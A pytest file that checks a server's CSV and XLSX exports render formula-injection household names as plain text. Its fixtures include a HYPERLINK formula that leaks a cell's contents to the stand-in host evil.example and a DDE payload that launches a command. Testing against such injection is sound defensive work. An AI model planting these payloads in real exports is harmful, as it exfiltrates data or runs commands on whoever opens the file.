"""A household whose name is a formula: office programs show it and never calculate it."""

from __future__ import annotations

import csv
import io
import json
from collections.abc import Sequence
from typing import Any

import pytest
from openpyxl import load_workbook

from server.domain.export import CASES, COLUMNS
from server.services.export_files import FORMS

ATTACKS = (
    '=HYPERLINK("http://evil.example/?"&A1)',
    "+1+cmd|' /C calc'!A0",
    "@SUM(1+1)",
    "-2+3",
    "\t=1+1",
    "  =1+1",
    "\uff1d1+1",
)


def row(head: str) -> dict[str, Any]:
    empty: dict[str, Any] = {column.name: "" if column.holds == "text" else 0 for column in COLUMNS[CASES]}
    return empty | {"number": "SL-2026-0001", "head": head}


def written(form: str, rows: Sequence[dict[str, Any]]) -> bytes:
    return b"".join(FORMS[form].write(COLUMNS[CASES], "en", rows))


@pytest.mark.parametrize("attack", ATTACKS)
def test_a_formula_for_a_name_is_shown_in_csv(attack: str) -> None:
    (line,) = csv.DictReader(io.StringIO(written("csv", [row(attack)]).decode("utf-8-sig")))
    assert line["Head of household"] == f"'{attack}"


@pytest.mark.parametrize("attack", ATTACKS)
def test_a_formula_for_a_name_is_text_in_a_workbook(attack: str) -> None:
    sheet = load_workbook(io.BytesIO(written("xlsx", [row(attack)]))).active
    assert sheet is not None
    cells = [cell for line in sheet.iter_rows(min_row=2) for cell in line]
    assert "f" not in {cell.data_type for cell in cells}
    assert next(cell.value for cell in cells if cell.value and attack.strip() in str(cell.value))


def test_what_a_workbook_cannot_hold_does_not_break_it() -> None:
    sheet = load_workbook(io.BytesIO(written("xlsx", [row("石\x00榴\x0b树")]))).active
    assert sheet is not None
    assert "石\ufffd榴\ufffd树" in [cell.value for cell in sheet[2]]


def test_a_line_of_json_lines_is_one_line() -> None:
    lines = written("jsonl", [row("one\ntwo\r\u2028")]).split(b"\n")
    assert len(lines) == 2
    assert json.loads(lines[0])["head"] == "one\ntwo\r\u2028"
